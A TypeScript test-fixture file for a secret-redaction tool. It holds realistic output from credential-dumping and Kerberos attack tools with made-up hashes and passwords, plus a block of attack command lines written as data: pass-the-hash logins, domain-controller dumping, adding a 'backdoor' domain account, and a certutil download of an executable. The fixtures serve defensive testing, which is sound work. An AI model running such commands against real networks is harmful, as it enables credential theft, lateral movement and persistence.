// Realistic tool output for the redaction tests (secrets are made up; shapes are the tools' own).

/** Deterministic hex of a given length, so long blobs stay readable in this file. */
export function hex(len: number, seed = 7): string {
  let out = '';
  let x = seed;
  while (out.length < len) {
    x = (x * 1103515245 + 12345) % 2147483648;
    out += x.toString(16).padStart(8, '0');
  }
  return out.slice(0, len).toUpperCase();
}

export const SECRETSDUMP = `Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Service RemoteRegistry is in stopped state
[*] Target system bootKey: 0x3c2b3f2e9e1d7a8b4c5d6e7f8a9b0c1d
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
[2024-10-16 16:12:23] [*] CORP\\HOST$:aad3b435b51404eeaad3b435b51404ee:0123456789abcdef0123456789abcdef:::
corp.local\\bob:1104:aad3b435b51404eeaad3b435b51404ee:c4b0e1b10c7ce2c4723b4e2407ef81a2::: (status=Enabled)
[*] Dumping cached domain logon information (domain/username:hash)
CORP.LOCAL/tom:$DCC2$10240#tom#e4e938d12fe5974dc42a90120bd9c90f: (2024-10-17 12:31:41)
[*] Dumping LSA Secrets
[*] $MACHINE.ACC
CORP\\WS01$:aes256-cts-hmac-sha1-96:9d4b0b4bd1d9d5b3f3c6e1a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1
CORP\\WS01$:des-cbc-md5:4f6e8a2c1b3d5e7f
CORP\\WS01$:plain_password_hex:4300610074004d0061006e004300610074
[*] DPAPI_SYSTEM
dpapi_machinekey:0x2c3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e
[*] _SC_MSSQLSERVER
CORP\\svc_sql:Summer2024!
[*] Cleaning up...`;

export const SECRETSDUMP_SECRETS = [
  '3c2b3f2e9e1d7a8b4c5d6e7f8a9b0c1d',
  '8846f7eaee8fb117ad06bdd830b7586c',
  '0123456789abcdef0123456789abcdef',
  'c4b0e1b10c7ce2c4723b4e2407ef81a2',
  'e4e938d12fe5974dc42a90120bd9c90f',
  '9d4b0b4bd1d9d5b3f3c6e1a2b4c6d8e0',
  '4f6e8a2c1b3d5e7f',
  '4300610074004d0061006e00',
  '2c3e4f5a6b7c8d9e0f1a2b3c',
  'Summer2024!',
];

const tgsChecksum = hex(32, 1);
const tgsData = hex(1100, 2);
/** Rubeus wraps the hash and indents continuation lines by 29 columns. */
const wrapped = (s: string, first: number) =>
  [s.slice(0, first), ...(s.slice(first).match(/.{1,100}/g) ?? [])].join(`\r\n${' '.repeat(29)}`);

export const RUBEUS_KERBEROAST = `[*] Action: Kerberoasting

[*] SamAccountName         : sqlsvc
[*] DistinguishedName      : CN=sqlsvc,CN=Users,DC=corp,DC=local
[*] ServicePrincipalName   : MSSQLSvc/sql01.corp.local:1433
[*] PwdLastSet             : 5/1/2024 10:00:00 AM
[*] Supported ETypes       : RC4_HMAC_DEFAULT
[*] Hash                   : ${wrapped(`$krb5tgs$23$*sqlsvc$corp.local$MSSQLSvc/sql01.corp.local:1433*$${tgsChecksum}$${tgsData}`, 60)}

[*] SamAccountName         : websvc`;

export const RUBEUS_SECRETS = [
  tgsChecksum,
  tgsData.slice(0, 40),
  tgsData.slice(500, 540),
  tgsData.slice(-30),
];

const asrepData = hex(600, 3).toLowerCase();
export const GETUSERSPNS = `ServicePrincipalName            Name    MemberOf  PasswordLastSet             LastLogon
------------------------------  ------  --------  --------------------------  ---------
MSSQLSvc/sql01.corp.local:1433  sqlsvc            2024-05-01 10:00:00.000000  <never>

$krb5tgs$18$sqlsvc$CORP.LOCAL$*CORP.LOCAL/sqlsvc*$${hex(24, 4).toLowerCase()}$${hex(900, 5).toLowerCase()}
$krb5asrep$23$jdoe@CORP.LOCAL:${hex(32, 6).toLowerCase()}$${asrepData}`;

export const GETUSERSPNS_SECRETS = [
  hex(24, 4).toLowerCase(),
  hex(900, 5).toLowerCase().slice(100, 140),
  asrepData.slice(0, 40),
];

export const RESPONDER = `[SMB] NTLMv2-SSP Client   : 10.0.0.23
[SMB] NTLMv2-SSP Username : CORP\\bob
[SMB] NTLMv2-SSP Hash     : bob::CORP:1122334455667788:9B1C0E3F6A2D4B5C8E7F9A0B1C2D3E4F:${hex(300, 8)}
[SMB] NTLMv1 Hash         : u4-netntlm::kNS:338d08f8e26de93300000000000000000000000000000000:9526fb8c23a90751cdd619b6cea564742e1e4bf33006ba41:cb8086049ec4736c`;

export const RESPONDER_SECRETS = [
  '9B1C0E3F6A2D4B5C8E7F9A0B1C2D3E4F',
  hex(300, 8).slice(0, 40),
  '9526fb8c23a90751cdd619b6cea564742e1e4bf33006ba41',
];

export const MIMIKATZ = `Authentication Id : 0 ; 996 (00000000:000003e4)
Session           : Service from 0
User Name         : WS01$
Domain            : CORP
Logon Server      : (null)
SID               : S-1-5-20
	msv :
	 [00000003] Primary
	 * Username : Administrator
	 * Domain   : CORP
	 * NTLM     : 8846f7eaee8fb117ad06bdd830b7586c
	 * SHA1     : e8f97fba9104d1ea5047948e6dfb67facd9f5b73
	 * DPAPI    : 0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e
	wdigest :
	 * Username : Administrator
	 * Domain   : CORP
	 * Password : (null)
	kerberos :
	 * Username : administrator
	 * Domain   : CORP.LOCAL
	 * Password : Correct Horse Battery
mimikatz # lsadump::dcsync /user:krbtgt
  Hash NTLM: 1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d
    ntlm- 0: 1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d
      aes256_hmac       (4096) : ${hex(64, 9).toLowerCase()}`;

export const MIMIKATZ_SECRETS = [
  '8846f7eaee8fb117ad06bdd830b7586c',
  'e8f97fba9104d1ea5047948e6dfb67facd9f5b73',
  '0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e',
  'Correct Horse Battery',
  'Horse',
  '1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d',
  hex(64, 9).toLowerCase(),
];

export const COMMAND_LINES = `nxc smb 10.0.0.0/24 -u administrator -p 'Winter2025!' --shares
evil-winrm -i 10.0.0.5 -u admin -H 8846f7eaee8fb117ad06bdd830b7586c
psexec.py -hashes aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c corp/admin@10.0.0.5
secretsdump.py 'corp.local/admin:P@ssw0rd!@dc01.corp.local'
Rubeus.exe asktgt /user:admin /rc4:8846f7eaee8fb117ad06bdd830b7586c /ptt
Rubeus.exe asktgt /user:bob /password:Spring2025 /domain:corp.local
net user backdoor Backd00r!23 /add /domain
net use \\\\fs01\\c$ /user:CORP\\bob Autumn2024
smbclient //fs01/share -U bob%Hunter2
curl https://deploy:TopSecret99@repo.corp.local/pkg
mysql --password=DbPass77 -h db01
{"username": "svc", "password": "JsonPass1"}
$6$rounds=5000$saltsalt$K1H7p2Wk0kfq0Ss6vLr/8kzZcI4v9RqYx6bEJm0s1o2
Server=db01;User ID=sa;Password=Conn$tr1ng;`;

export const COMMAND_SECRETS = [
  'Winter2025!',
  '8846f7eaee8fb117ad06bdd830b7586c',
  'P@ssw0rd!',
  'Spring2025',
  'Backd00r!23',
  'Autumn2024',
  'Hunter2',
  'TopSecret99',
  'DbPass77',
  'JsonPass1',
  'K1H7p2Wk0kfq0Ss6vLr',
  'Conn$tr1ng',
];

/** Ordinary evidence that must come out unchanged. */
export const ORDINARY = `IOC list for the loader
loader.exe  MD5: 5d41402abc4b2a76b9719d911017c592
SHA1: aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d
SHA256: 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824
2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824  C:\\Windows\\Temp\\loader.exe
CLSID {3F2504E0-4F89-11D3-9A0C-0305E82C3301} 3f2504e0-4f89-11d3-9a0c-0305e82c3301
nmap -sV -p 445,3389 10.0.0.0/24
ssh -p 2222 operator@jump01
certutil -urlcache -f http://10.0.0.9/a.exe C:\\Users\\Public\\a.exe
PwdLastSet: 5/1/2024   PasswordLastSet 2024-05-01
The operator reset the passwords for 3 accounts; password spraying was out of scope.
fe80::1c2d:3e4f:5a6b:7c8d%12
awk '{print $1$2}' users.txt
git@github.com:org/repo.git
whoami /all
net user bob /domain
net group "Domain Admins" /domain`;

/** The credential extractors' inputs (credentials.md §2.3): every one must come out without its secret. */
export const EXTRACTOR_INPUTS: Array<{ name: string; text: string; secrets: string[]; kept: string }> = [
  {
    name: 'SharpSCCM NAA',
    text: '[+] Decrypting network access account credentials\n\n    NetworkAccessUsername: DOMAIN\\USER\n    NetworkAccessPassword: Password123',
    secrets: ['Password123'],
    kept: 'NetworkAccessUsername: DOMAIN\\USER',
  },
  {
    name: 'SharpDPAPI NAA',
    text: '    Plaintext NAA Username        : CORP\\sccm_naa\n    Plaintext NAA Password        : Naa-Pass-1',
    secrets: ['Naa-Pass-1'],
    kept: 'Plaintext NAA Username        : CORP\\sccm_naa',
  },
  {
    name: 'SAL-BOF privcheck',
    text: '[CREDMANAGER] --- Credential [1] ---\n[CREDMANAGER]   Target: fileserver\n[CREDMANAGER]   User:   alice\n[CREDMANAGER]   Secret: PasswordOne',
    secrets: ['PasswordOne'],
    kept: '[CREDMANAGER]   User:   alice',
  },
  {
    name: 'AskCreds',
    text: '[+] Username: CORP\\bob\n[+] Password: Spring!2026\n',
    secrets: ['Spring!2026'],
    kept: '[+] Username: CORP\\bob',
  },
  {
    name: 'Spray-AD',
    text: '[+] Password correct for useraccount(s):\nbob\n----\nDomain tested: corp.local\nPassword tested: Autumn2026',
    secrets: ['Autumn2026'],
    kept: 'Domain tested: corp.local',
  },
  {
    name: 'ldapshell LAPS',
    text: '# get_laps_password WS01\nFound Computer DN: CN=WS01,OU=Workstations,DC=corp,DC=local\nLAPS Password: 7kQ#v9!pLm2',
    secrets: ['7kQ#v9!pLm2'],
    kept: 'Found Computer DN: CN=WS01',
  },
  {
    name: 'Seatbelt CredEnum',
    text: '  Target              : Domain:target=TERMSRV/srv01\n  UserName            : CORP\\admin\n  Password            : Rdp-Pass-99',
    secrets: ['Rdp-Pass-99'],
    kept: 'UserName            : CORP\\admin',
  },
  {
    name: 'Rubeus U2U',
    text: '  UserName                 :  WS01$\n  UserRealm                :  CORP.LOCAL\n[*] Getting credentials using U2U\n\n  CredentialInfo         :\n    Version              : 0\n    EncryptionType       : rc4_hmac\n    CredentialData       :\n      CredentialCount    : 1\n       NTLM              : 5B4C6335673A75F13F64B3E2D8F0A4E1',
    secrets: ['5B4C6335673A75F13F64B3E2D8F0A4E1'],
    kept: 'UserRealm                :  CORP.LOCAL',
  },
  {
    name: 'Certipy auth',
    text: "[*] Got hash for 'administrator@corp.local': aad3b435b51404eeaad3b435b51404ee:2b576acbe6bcfda7294d6bd18041b8fe",
    secrets: ['2b576acbe6bcfda7294d6bd18041b8fe'],
    kept: "[*] Got hash for 'administrator@corp.local': ",
  },
  {
    name: 'Snaffler connection string and SQL',
    text: '[File] {Red}<KeepCSharpDbConnStringsRed|R|Password=|1kB|2024>(\\\\fs01\\app\\web.config) "Data Source=db01;User ID=sa;Password = S3cret-Db;"\nCREATE LOGIN app WITH PASSWORD = \'Sql-Pass-1\'\nCREATE USER rpt IDENTIFIED BY Oracle-Pass-2',
    secrets: ['S3cret-Db', 'Sql-Pass-1', 'Oracle-Pass-2'],
    kept: 'Data Source=db01;User ID=sa;',
  },
  {
    name: 'mimikatz ekeys and secrets',
    text: "\t * Key List :\n\t   aes256_hmac       9f3c1a2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8\n\t   rc4_hmac_nt       8846f7eaee8fb117ad06bdd830b7586c\nSecret  : _SC_MSSQLSERVER / service 'MSSQLSERVER' with username : CORP\\svc_sql\ncur/text: Sql-Svc-Pass!",
    secrets: ['9f3c1a2b4d5e6f708192a3b4c5d6e7f8', '8846f7eaee8fb117ad06bdd830b7586c', 'Sql-Svc-Pass!'],
    kept: '* Key List :',
  },
  {
    name: 'SharpDPAPI master keys',
    text: '[*] User master key cache:\n\n{5d1c9b3a-1f2e-4c3d-8a9b-0c1d2e3f4a5b}:0A1B2C3D4E5F60718293A4B5C6D7E8F901234567',
    secrets: ['0A1B2C3D4E5F60718293A4B5C6D7E8F901234567'],
    kept: '{5d1c9b3a-1f2e-4c3d-8a9b-0c1d2e3f4a5b}:',
  },
  {
    name: 'Outflank Kerberoast BOF',
    text: `<TICKET>\nsAMAccountName = svc_web\n${'YIIFXjCCBVqgAwIBBaEDAgEOogcDBQAgAAAAo4IEQmGCBD4wggQ6oAMCAQWhDBsKQ09SUC5MT0NBTKIkMCKgAwIBAqEbMBkbBEhUVFAbEXdlYjAxLmNvcnAubG9jYWyjggP9'.repeat(3)}\n</TICKET>`,
    secrets: ['YIIFXjCCBVqgAwIBBaEDAgEOogcDBQAg'],
    kept: 'sAMAccountName = svc_web',
  },
];
